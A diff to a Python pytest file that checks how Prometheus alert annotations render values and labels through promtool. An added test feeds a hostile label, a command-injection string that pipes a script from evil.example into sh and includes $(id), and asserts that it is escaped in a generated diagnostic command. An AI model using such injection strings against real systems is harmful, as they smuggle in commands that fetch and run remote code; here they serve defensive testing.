@@ -1,5 +1,6 @@
 """The value in an alert's description as a real Prometheus writes it, by the unit of the signal."""
 
+import json
 import shutil
 import subprocess
 from pathlib import Path
@@ -7,7 +8,10 @@ from pathlib import Path
 import pytest
 import yaml
 
+from diag.artefacts.alerts import doctor_command
+from diag.artefacts.names import alert_label
 from diag.artefacts.units import alert_value
+from diag.core.contract import Site
 
 
 @pytest.mark.parametrize(
@@ -29,18 +33,33 @@ from diag.artefacts.units import alert_value
     ],
 )
 def test_a_value_is_written_with_its_unit(tmp_path: Path, unit: str, value: float, text: str) -> None:
+    fires(tmp_path, alert_value(unit), text, value=value)
+
+
+def test_a_hostile_label_is_no_markup_and_ends_no_quote_in_an_annotation(tmp_path: Path) -> None:
+    evil, shown = (
+        "0; curl //evil.example|sh #'\"$(id)`id`<!channel>\n",
+        "0? curl ?evil.example?sh ?????id??id???channel??",
+    )
+    template = doctor_command(Site(labels=("gpu",), prometheus_url="http://p"))
+    fires(tmp_path, template, f"diag doctor --prometheus http://p --match 'gpu=\"{shown}\"' --from -3540", gpu=evil)
+    fires(tmp_path, alert_label("gpu"), "GPU-1/[::1]:8" + 87 * "a", gpu="GPU-1/[::1]:8" + 500 * "a")
+
+
+def fires(folder: Path, template: str, expected: str, value: float = 1, **labels: str) -> None:
+    """One alert with that annotation, as Prometheus fills it in."""
     if shutil.which("promtool") is None:
         pytest.skip("no promtool: .ci/components installs it")
-    rule = {"alert": "A", "expr": "measured > -100", "annotations": {"description": alert_value(unit)}}
-    (tmp_path / "rules.yaml").write_text(yaml.safe_dump({"groups": [{"name": "g", "rules": [rule]}]}))
-    fired = {"exp_labels": {}, "exp_annotations": {"description": text}}
+    rule = {"alert": "A", "expr": "measured > -100", "annotations": {"description": template}}
+    (folder / "rules.yaml").write_text(yaml.safe_dump({"groups": [{"name": "g", "rules": [rule]}]}))
+    series = "measured{" + ",".join(f"{name}={json.dumps(label)}" for name, label in labels.items()) + "}"
+    fired = {"exp_labels": labels, "exp_annotations": {"description": expected}}
     test = {
         "interval": "1m",
-        "input_series": [{"series": "measured", "values": f"{value}x2"}],
+        "input_series": [{"series": series, "values": f"{value}x2"}],
         "alert_rule_test": [{"alertname": "A", "eval_time": "1m", "exp_alerts": [fired]}],
     }
-    (tmp_path / "test.yaml").write_text(yaml.safe_dump({"rule_files": ["rules.yaml"], "tests": [test]}))
-    done = subprocess.run(
-        ["promtool", "test", "rules", "test.yaml"], cwd=tmp_path, capture_output=True, text=True, check=False
-    )
+    (folder / "tests.yaml").write_text(yaml.safe_dump({"rule_files": ["rules.yaml"], "tests": [test]}))
+    command = ["promtool", "test", "rules", str(folder / "tests.yaml")]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
     assert done.returncode == 0, done.stdout + done.stderr
